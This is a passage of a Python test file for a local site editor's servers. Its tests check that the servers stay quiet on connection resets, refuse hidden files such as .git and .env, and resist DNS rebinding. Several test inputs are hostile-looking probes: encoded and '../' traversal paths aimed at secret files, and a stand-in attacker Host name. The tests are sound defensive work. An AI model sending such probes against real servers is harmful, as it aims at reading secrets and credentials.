    given up) before it was written raised a broken pipe, and Python's English traceback
    filled the terminal of the person editing. Now nothing is printed, and the guard goes
    on answering."""
    import http.server
    import socket
    import threading

    from editor import lokal

    class Upstream(http.server.BaseHTTPRequestHandler):  # decap-server's place: a large answer
        def do_POST(self):
            body = b"{" + b" " * 8_000_000 + b"}"
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args):
            pass

    upstream = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    guard = lokal.guard_server(0, upstream.server_address[1])
    for server in (upstream, guard):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    port = guard.server_address[1]
    body = b'{"action": "info", "params": {}}'
    request = (f"POST /api/v1 HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {len(body)}\r\n"
               "Connection: close\r\n\r\n").encode() + body
    try:
        for _ in range(3):
            with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
                conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")  # reset on close
                conn.sendall(request)
                conn.recv(1)  # the answer began: the tab is closed
            time.sleep(0.5)
        with socket.create_connection(("127.0.0.1", port), timeout=10) as conn:
            conn.sendall(request)
            answer = b""
            while chunk := conn.recv(1 << 20):
                answer += chunk
        assert answer.startswith(b"HTTP/1.0 200") and len(answer) > 8_000_000
        err = capfd.readouterr().err
        assert "Traceback" not in err and "Broken pipe" not in err and "Connection reset" not in err, err
    finally:
        for server in (guard, upstream):
            server.shutdown()
            server.server_close()


def test_the_kit_s_local_servers_serve_no_hidden_file(tmp_path):
    """As deploy/nginx.conf: nothing hidden (.git, .env, a leftover .tmp) is served by the
    preview or the editor's static server, however the path is written; .well-known is."""
    import http.client
    import http.server
    import threading
    from functools import partial

    from common.served import LocalHandler
    from preview.server import PreviewState, make_server

    for name, text in ((".git/config", "[core]"), (".env", "RAHASIA=1"), ("aset/.salinan.tmp", "x"),
                       (".well-known/security.txt", "Contact: mailto:ppid@example.invalid"), ("index.html", "<p>situs</p>")):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, encoding="utf-8")
    state = PreviewState()
    state.publish(None)
    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(LocalHandler, directory=str(tmp_path))),
               make_server("127.0.0.1", 0, str(tmp_path), state)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()

    def get(port, path):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            connection.request("GET", path, headers={"Host": f"127.0.0.1:{port}"})
            response = connection.getresponse()
            return response.status, response.read().decode("utf-8", "replace")
        finally:
            connection.close()

    try:
        for server in servers:
            port = server.server_address[1]
            for path in ("/.git/config", "/%2egit/config", "/.env", "/aset/.salinan.tmp", "/aset/%2Esalinan.tmp",
                         "/aset/..%2f.env", "/.well-known/../.env"):
                code, body = get(port, path)
                assert code == 404 and "[core]" not in body and "RAHASIA" not in body, (type(server), path, code)
            assert get(port, "/.well-known/security.txt") == (200, "Contact: mailto:ppid@example.invalid")
            assert get(port, "/")[0] == 200
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()


def test_the_kit_s_local_servers_answer_no_other_site_s_name(tmp_path):
    """The preview and the editor's static server run on this computer: a page of another
    site whose name was made to point at 127.0.0.1 (DNS rebinding) must not read them (the
    preview's error page shows lines of the settings and plugins)."""
    import http.client
    import http.server
    import threading
    from functools import partial

    from common.served import LocalHandler

    (tmp_path / "index.html").write_text("<p>situs</p>", encoding="utf-8")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), partial(LocalHandler, directory=str(tmp_path)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]

    def status(host):
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        try:
            connection.request("GET", "/", headers={"Host": host})
            response = connection.getresponse()
            return response.status, response.read().decode("utf-8", "replace")
        finally:
            connection.close()

    try:
        for host in (f"127.0.0.1:{port}", f"localhost:{port}", f"192.168.1.20:{port}", f"[::1]:{port}"):
            assert status(host)[0] == 200, host  # this computer, by name or address (a phone on the LAN too)
        code, page = status(f"rebind.penyerang.example:{port}")
        assert code == 403 and "situs" not in page.replace("server ini", "") and "127.0.0.1" in page
    finally:
        server.shutdown()
        server.server_close()
